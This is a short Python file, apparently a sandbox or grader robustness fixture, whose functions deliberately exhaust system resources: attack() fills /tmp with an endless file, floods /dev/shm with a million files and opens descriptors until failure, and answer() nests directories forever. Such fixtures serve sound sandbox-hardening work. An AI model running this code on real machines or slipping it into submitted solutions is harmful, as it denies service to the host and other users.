"""Fills the disk, the inodes, the descriptors and the longest path."""

import os


def double(x):
    return 2 * x


def attack(number):
    try:
        if number == 0:
            with open("/tmp/big", "wb") as file:
                while True:
                    file.write(b"x" * (1 << 20))
        if number == 1:
            for count in range(10**6):
                open(f"/dev/shm/{count}", "w").close()
        kept = []
        while True:
            kept.append(open("/dev/null"))
    except OSError as error:
        return error.errno


def answer(x):
    while True:
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
